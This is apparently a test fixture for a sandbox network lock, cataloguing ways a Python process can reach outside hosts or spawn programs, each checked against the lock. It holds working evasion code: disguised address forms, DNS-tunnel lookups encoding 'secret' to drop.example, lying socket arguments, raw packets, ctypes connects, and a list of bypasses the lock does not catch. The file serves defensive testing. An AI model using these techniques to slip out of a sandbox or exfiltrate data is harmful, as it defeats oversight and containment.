"""Ways out of a process, each tried once on request: `python -m tests.fakes.evasions locked|open` reads names of them.

Runs in the room of `tests.fakes.bait`, where every address answers. A line of JSON says how each attempt went.
"""

# ruff: noqa: PLC0415, PTH123, PTH211, RUF001, S104, S310, S321, S602, S605, S606 - attacks, by any means
from __future__ import annotations

import asyncio
import contextlib
import ctypes
import ftplib
import http.client
import json
import multiprocessing
import os
import pty
import smtplib
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import urllib.request
import xmlrpc.client
from collections.abc import Callable, Iterator
from typing import Any

from tests.fakes.locked import ALLOWED_PROGRAM, lock_up

PUBLIC = "203.0.113.7"
PUBLIC6 = "2001:db8::7"
METADATA = "169.254.169.254"
PORT = 8080
URL = f"http://{PUBLIC}:{PORT}/"
NAMED = f"http://drop.example:{PORT}/"
CODE = f"import socket; socket.create_connection(({PUBLIC!r}, {PORT}), 2)"
PYTHON = [sys.executable, "-c", CODE]
CURL = ["/usr/bin/curl", "-s", "-m", "2", URL]
SHELL = f'exec {sys.executable} -c "{CODE}"'
PATIENCE = 2.0

WAYS: dict[str, Callable[[], object]] = {}


def way(attempt: Callable[[], object]) -> Callable[[], object]:
    WAYS[attempt.__name__] = attempt
    return attempt


def connecting(name: str, *address: Any, family: int = socket.AF_INET) -> None:
    def attempt() -> None:
        with socket.socket(family) as connection:
            connection.settimeout(PATIENCE)
            connection.connect(address)

    WAYS[f"connect_{name}"] = attempt


def sending(name: str, *address: Any, family: int = socket.AF_INET) -> None:
    def attempt() -> None:
        with socket.socket(family, socket.SOCK_DGRAM) as sender:
            sender.sendto(b"probe", address)

    WAYS[f"send_{name}"] = attempt


def fetching(name: str, url: str) -> None:
    WAYS[f"urllib_{name}"] = lambda: urllib.request.urlopen(url, timeout=PATIENCE).read()


# Sockets, and the writings of an address.
connecting("plain", PUBLIC, PORT)
connecting("ipv6", PUBLIC6, PORT, family=socket.AF_INET6)
connecting("mapped", f"::ffff:{PUBLIC}", PORT, family=socket.AF_INET6)
connecting("mapped_hex", "::ffff:cb00:7107", PORT, 0, 0, family=socket.AF_INET6)
connecting("compatible", "::203.0.113.7", PORT, family=socket.AF_INET6)
connecting("sixtofour", "2002:cb00:7107::1", PORT, family=socket.AF_INET6)
connecting("nat64", "64:ff9b::cb00:7107", PORT, family=socket.AF_INET6)
connecting("metadata", METADATA, PORT)
connecting("metadata_mapped", f"::ffff:{METADATA}", PORT, family=socket.AF_INET6)
connecting("metadata_ipv6", "fd00:ec2::254", PORT, family=socket.AF_INET6)
connecting("decimal", "3405803783", PORT)
connecting("hex", "0xcb007107", PORT)
connecting("hex_parts", "0xcb.0x0.0x71.0x7", PORT)
connecting("octal", "0313.0.0161.07", PORT)
connecting("two_parts", "203.28935", PORT)
connecting("full_width", "２０３.0.113.7", PORT)
connecting("trailing_dot", "drop.example.", PORT)
connecting("name", "drop.example", PORT)
connecting("name_in_bytes", b"drop.example", PORT)
connecting("address_in_bytes", PUBLIC.encode(), PORT)
connecting("upper_case", "DROP.EXAMPLE", PORT)
connecting("idn", "dröp.example", PORT)
connecting("look_alike", "dev1.l\u0430n", PORT)
connecting("subdomain_of_listed", "x.dev1.lan", PORT)
connecting("listed_as_prefix", "dev1.lan.drop.example", PORT)
connecting("listed_name_other_port", "dev1.lan", PORT)
connecting("listed_network_other_port", "10.99.0.9", PORT)
connecting("unspecified", "0.0.0.0", PORT)
connecting("unspecified_name", "", PORT)
connecting("zero", "0", PORT)
sending("plain", PUBLIC, PORT)
sending("name", "drop.example", PORT)
sending("ipv6", PUBLIC6, PORT, family=socket.AF_INET6)
sending("mapped", f"::ffff:{PUBLIC}", PORT, family=socket.AF_INET6)
sending("dns_server", PUBLIC, 53)


class _Text(str):
    """Shows Python another text than the system reads."""

    __slots__ = ()

    def __eq__(self, other: object) -> bool:
        return other == "127.0.0.1"

    def __hash__(self) -> int:
        return hash("127.0.0.1")

    def __str__(self) -> str:
        return "127.0.0.1"


class _Pair(tuple):  # type: ignore[type-arg]  # an attack
    """Shows Python another address than the system reads."""

    __slots__ = ()

    def __getitem__(self, place: Any) -> Any:
        return ("127.0.0.1", PORT)[place]

    def __iter__(self) -> Iterator[Any]:
        return iter(("127.0.0.1", PORT))


connecting("lying_text", _Text(PUBLIC), PORT)


@way
def connect_lying_tuple() -> None:
    with socket.socket() as connection:
        connection.connect(_Pair((PUBLIC, PORT)))


@way
def connect_ex() -> None:
    with socket.socket() as connection:
        connection.connect_ex((PUBLIC, PORT))


@way
def connect_udp_and_send() -> None:
    with socket.socket(type=socket.SOCK_DGRAM) as connection:
        connection.connect((PUBLIC, PORT))
        connection.send(b"probe")


@way
def reconnect_udp() -> None:
    with socket.socket(type=socket.SOCK_DGRAM) as connection:
        connection.connect(("127.0.0.1", 9))
        connection.connect((PUBLIC, PORT))
        connection.send(b"probe")


@way
def sendmsg() -> None:
    with socket.socket(type=socket.SOCK_DGRAM) as connection:
        connection.sendmsg([b"probe"], [], 0, (PUBLIC, PORT))


@way
def sendmsg_name() -> None:
    with socket.socket(type=socket.SOCK_DGRAM) as connection:
        connection.sendmsg([b"probe"], [], 0, ("drop.example", PORT))


@way
def tcp_fast_open() -> None:
    with socket.socket() as connection:
        connection.sendto(b"probe", socket.MSG_FASTOPEN, (PUBLIC, PORT))


@way
def raw_socket() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as raw:
        raw.sendto(struct.pack("!HHHH", 9, PORT, 13, 0) + b"probe", (PUBLIC, 0))


@way
def packet_socket() -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as raw:
        raw.bind(("lo", 0x0800))
        raw.send(_udp_packet())


@way
def bare_socket_class() -> None:
    import _socket

    connection = _socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    connection.connect((PUBLIC, PORT))


@way
def bare_method() -> None:
    import _socket

    with socket.socket() as connection:
        _socket.socket.connect(connection, (PUBLIC, PORT))


@way
def bind_name() -> None:
    with (
        socket.socket() as connection,
        contextlib.suppress(OSError) if "open" in sys.argv else contextlib.nullcontext(),
    ):
        connection.bind(("bind.drop.example", 0))


@way
def create_connection() -> None:
    socket.create_connection((PUBLIC, PORT), PATIENCE).close()


@way
def create_connection_name() -> None:
    socket.create_connection(("drop.example", PORT), PATIENCE).close()


@way
def rebinding() -> None:
    """The name is listed, its first answer is in the building, its second is not."""
    for _ in range(2):
        socket.create_connection(("rebind.lan", PORT), PATIENCE).close()


# Look-ups alone carry a message.
@way
def look_up() -> None:
    socket.getaddrinfo("c2VjcmV0.drop.example", 80)


@way
def look_up_bytes() -> None:
    socket.getaddrinfo(b"c2VjcmV0.drop.example", 80)


@way
def look_up_bare() -> None:
    import _socket

    _socket.getaddrinfo("c2VjcmV0.drop.example", 80)


@way
def gethostbyname() -> None:
    socket.gethostbyname("c2VjcmV0.drop.example")


@way
def gethostbyname_ex() -> None:
    socket.gethostbyname_ex("c2VjcmV0.drop.example")


@way
def gethostbyaddr() -> None:
    with contextlib.suppress(socket.herror):
        socket.gethostbyaddr(PUBLIC)


@way
def gethostbyaddr_name() -> None:
    with contextlib.suppress(socket.herror):
        socket.gethostbyaddr("c2VjcmV0.drop.example")


@way
def getfqdn() -> None:
    socket.getfqdn("c2VjcmV0.drop.example")


@way
def getnameinfo() -> None:
    socket.getnameinfo((PUBLIC, 80), 0)


@way
def dns_tunnel() -> None:
    question = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x08c2VjcmV0\x04drop\x07example\0\0\x10\0\x01"
    with open("/etc/resolv.conf", encoding="utf-8") as lines:
        server = next(line.split()[1] for line in lines if line.startswith("nameserver"))
    with socket.socket(type=socket.SOCK_DGRAM) as sender:
        sender.sendto(question, (server, 53))


# Clients.
fetching("plain", URL)
fetching("name", NAMED)
fetching("decimal", f"http://3405803783:{PORT}/")
fetching("userinfo", f"http://dev1.lan@{PUBLIC}:{PORT}/")
fetching("mapped", f"http://[::ffff:cb00:7107]:{PORT}/")
fetching("redirect", f"http://127.0.0.1:{PORT}/redirect")
fetching("ftp", f"ftp://{PUBLIC}:{PORT}/x")


@way
def urllib_proxy() -> None:
    proxies = urllib.request.ProxyHandler({"http": URL})
    urllib.request.build_opener(proxies).open("http://localhost/", timeout=PATIENCE)


@way
def http_client() -> None:
    http.client.HTTPConnection(PUBLIC, PORT, timeout=PATIENCE).request("GET", "/")


@way
def https_client() -> None:
    http.client.HTTPSConnection(PUBLIC, PORT, timeout=PATIENCE).request("GET", "/")


@way
def tls_socket() -> None:
    with ssl.create_default_context().wrap_socket(socket.socket(), server_hostname="drop.example") as connection:
        connection.settimeout(PATIENCE)
        connection.connect((PUBLIC, PORT))


@way
def smtp() -> None:
    smtplib.SMTP(PUBLIC, PORT, local_hostname="localhost", timeout=PATIENCE)


@way
def ftp() -> None:
    ftplib.FTP().connect(PUBLIC, PORT, timeout=PATIENCE)


@way
def xml_rpc() -> None:
    xmlrpc.client.ServerProxy(URL).probe()


@way
def requests() -> None:
    import requests

    requests.get(URL, timeout=PATIENCE)


@way
def requests_name() -> None:
    import requests

    requests.get(NAMED, timeout=PATIENCE)


@way
def urllib3() -> None:
    import urllib3

    urllib3.PoolManager().request("GET", URL, timeout=PATIENCE, retries=False)


@way
def httpx() -> None:
    import httpx

    httpx.get(URL, timeout=PATIENCE)


@way
def httpx_redirect() -> None:
    import httpx

    httpx.get(f"http://127.0.0.1:{PORT}/redirect", timeout=PATIENCE, follow_redirects=True)


@way
def httpx_async() -> None:
    import httpx

    async def fetch() -> None:
        async with httpx.AsyncClient() as client:
            await client.get(NAMED, timeout=PATIENCE)

    asyncio.run(fetch())


@way
def aiohttp() -> None:
    asyncio.run(_fetch_by_aiohttp(URL))


@way
def aiohttp_name() -> None:
    asyncio.run(_fetch_by_aiohttp(NAMED))


async def _fetch_by_aiohttp(url: str) -> None:
    import aiohttp

    async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(PATIENCE)) as client, client.get(url) as answer:
        await answer.read()


@way
def websocket() -> None:
    from websockets.sync.client import connect

    connect(f"ws://{PUBLIC}:{PORT}/", open_timeout=PATIENCE)


@way
def redis() -> None:
    import redis
    from redis.backoff import NoBackoff
    from redis.retry import Retry

    redis.Redis(PUBLIC, PORT, socket_timeout=1, retry=Retry(NoBackoff(), 0)).ping()


@way
def asyncio_streams() -> None:
    async def connect() -> None:
        _, writer = await asyncio.open_connection(PUBLIC, PORT)
        writer.close()

    asyncio.run(connect())


@way
def asyncio_streams_name() -> None:
    async def connect() -> None:
        _, writer = await asyncio.open_connection("drop.example", PORT)
        writer.close()

    asyncio.run(connect())


@way
def asyncio_sock_connect() -> None:
    async def connect() -> None:
        with socket.socket() as connection:
            connection.setblocking(False)
            await asyncio.get_running_loop().sock_connect(connection, (PUBLIC, PORT))

    asyncio.run(connect())


@way
def asyncio_datagrams() -> None:
    async def send() -> None:
        loop = asyncio.get_running_loop()
        transport, _ = await loop.create_datagram_endpoint(asyncio.DatagramProtocol, family=socket.AF_INET)
        transport.sendto(b"probe", (PUBLIC, PORT))
        await asyncio.sleep(0.05)
        transport.close()

    asyncio.run(send())


# Programs.
@way
def run_curl() -> None:
    subprocess.run(CURL, check=False)


@way
def run_python() -> None:
    subprocess.run(PYTHON, check=False)


@way
def run_own_module_with_code() -> None:
    """The interpreter may start with our own module only."""
    subprocess.run([sys.executable, "-P", "-c", CODE, "-m", "assistant"], check=False)


@way
def run_under_false_name() -> None:
    subprocess.run([ALLOWED_PROGRAM, "-c", CODE], executable=sys.executable, check=False)


@way
def run_found_in_path() -> None:
    with tempfile.TemporaryDirectory() as folder:
        os.symlink(sys.executable, f"{folder}/true")
        subprocess.run(["true", "-c", CODE], env={"PATH": folder}, check=False)


@way
def run_shell() -> None:
    subprocess.run(SHELL, shell=True, check=False)


@way
def run_false_offline() -> None:
    subprocess.run(["/usr/bin/unshare", "--user", "--map-current-user", "--", *PYTHON], check=False)


@way
def os_system() -> None:
    os.system(SHELL)


@way
def os_popen() -> None:
    os.popen(SHELL).read()


@way
def os_posix_spawn() -> None:
    os.waitpid(os.posix_spawn(sys.executable, PYTHON, os.environ), 0)


@way
def os_spawnv() -> None:
    os.spawnv(os.P_WAIT, sys.executable, PYTHON)


@way
def fork_and_exec() -> None:
    child = os.fork()
    if child == 0:
        try:
            os.execv(sys.executable, PYTHON)
        finally:
            os._exit(13)
    os.waitpid(child, 0)


@way
def fork_and_connect() -> None:
    child = os.fork()
    if child == 0:
        try:
            socket.create_connection((PUBLIC, PORT), PATIENCE)
        finally:
            os._exit(13)
    os.waitpid(child, 0)


@way
def pty_spawn() -> None:
    pty.spawn(PYTHON, lambda descriptor: os.read(descriptor, 1024))


@way
def asyncio_program() -> None:
    async def run() -> None:
        await (await asyncio.create_subprocess_exec(*PYTHON)).wait()

    asyncio.run(run())


@way
def asyncio_shell() -> None:
    async def run() -> None:
        await (await asyncio.create_subprocess_shell(SHELL)).wait()

    asyncio.run(run())


@way
def multiprocessing_spawn() -> None:
    process = multiprocessing.get_context("spawn").Process(target=create_connection)
    process.start()
    process.join()


@way
def bare_fork_exec() -> None:
    from multiprocessing.util import spawnv_passfds

    os.waitpid(spawnv_passfds(os.fsencode(sys.executable), [os.fsencode(each) for each in PYTHON], []), 0)


@way
def ctypes_connect() -> None:
    _connect_natively(ctypes.CDLL(None, use_errno=True).connect)


# What the lock cannot see: docs/security.md names each, and the test holds that it is still so.
UNSEEN: dict[str, Callable[[], object]] = {}


def unseen(attempt: Callable[[], object]) -> Callable[[], object]:
    UNSEEN[attempt.__name__] = attempt
    return attempt


@unseen
def ctypes_by_address() -> None:
    find = ctypes.CDLL(None).dlsym
    find.restype, find.argtypes = ctypes.c_void_p, [ctypes.c_void_p, ctypes.c_char_p]
    _connect_natively(ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_char_p, ctypes.c_int)(find(0, b"connect")))


@unseen
def libpq() -> None:
    import psycopg

    psycopg.connect(f"postgresql://u@{PUBLIC}:{PORT}/d?connect_timeout=2&sslmode=disable")


@unseen
def grpc() -> None:
    import grpc

    channel = grpc.insecure_channel(f"{PUBLIC}:{PORT}")
    grpc.channel_ready_future(channel).result(timeout=1)


@unseen
def bare_method_look_up() -> None:
    """Refused to connect, but the name server has been asked by then."""
    import _socket

    with socket.socket() as connection:
        _socket.socket.connect(connection, ("c2VjcmV0.drop.example", PORT))


# What the lock must let pass.
PASSES: dict[str, Callable[[], object]] = {}


def passes(attempt: Callable[[], object]) -> Callable[[], object]:
    PASSES[attempt.__name__] = attempt
    return attempt


@passes
def loopback() -> None:
    socket.create_connection(("127.0.0.1", PORT), PATIENCE).close()


@passes
def loopback_ipv6() -> None:
    socket.create_connection(("::1", PORT), PATIENCE).close()


@passes
def localhost_by_name() -> None:
    with socket.socket() as connection:
        connection.connect(("localhost", PORT))


@passes
def listed_name() -> None:
    socket.create_connection(("dev1.lan", 11434), PATIENCE).close()


@passes
def listed_name_connected_by_name() -> None:
    with socket.socket() as connection:
        connection.connect(("dev1.lan", 11434))


@passes
def listed_name_by_aiohttp() -> None:
    asyncio.run(_fetch_by_aiohttp("http://dev1.lan:11434/"))


@passes
def listed_name_by_httpx() -> None:
    import httpx

    httpx.get("http://DEV1.lan:11434/", timeout=PATIENCE)


@passes
def listed_network() -> None:
    socket.create_connection(("10.99.0.9", 443), PATIENCE).close()


@passes
def unix_socket() -> None:
    here, there = socket.socketpair()
    with here, there:
        here.send(b"probe")


@passes
def listed_program() -> None:
    subprocess.run([ALLOWED_PROGRAM], check=True)


@passes
def program_without_network() -> None:
    from connectors.network import offline

    code = f"import socket; raise SystemExit(socket.socket().connect_ex(({PUBLIC!r}, {PORT})) == 0)"
    subprocess.run(offline([sys.executable, "-c", code]), check=True)


@passes
def listening() -> None:
    async def serve() -> None:
        server = await asyncio.start_server(lambda _reader, writer: writer.close(), "0.0.0.0", 0)
        server.close()

    asyncio.run(serve())


def _connect_natively(connect: Callable[..., int]) -> None:
    with socket.socket() as connection:
        address = struct.pack("=H", socket.AF_INET) + struct.pack("!H", PORT) + socket.inet_aton(PUBLIC) + bytes(8)
        if connect(connection.fileno(), address, len(address)) != 0:
            raise OSError("not connected")


def _udp_packet() -> bytes:
    """Return an IPv4 packet to the public address, made by hand."""
    payload = struct.pack("!HHHH", 9, PORT, 13, 0) + b"probe"
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 0, 0, 64, 17, 0)
    header += socket.inet_aton("198.51.100.1") + socket.inet_aton(PUBLIC)
    total = sum(struct.unpack("!10H", header))
    checksum = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
    return header[:10] + struct.pack("!H", checksum) + header[12:] + payload


def main() -> None:
    """Try each way that standard input names; the lock is on when the argument says so."""
    lock = lock_up() if sys.argv[1] == "locked" else None
    every = WAYS | UNSEEN | PASSES
    # What is started here may read and write as it likes: orders and results go by descriptors of their own.
    orders, results = os.fdopen(os.dup(0)), os.fdopen(os.dup(1), "w")
    nothing = os.open(os.devnull, os.O_RDWR)
    os.dup2(nothing, 0)
    os.dup2(nothing, 1)
    for line in orders:
        before = lock.refused if lock else 0
        error: BaseException | None = None
        try:
            every[line.strip()]()
        except BaseException as raised:  # noqa: BLE001 - whatever comes of it is the result
            error = raised
        told = {"error": repr(error) if error else "", "refused": (lock.refused if lock else 0) - before}
        print(json.dumps(told), file=results, flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
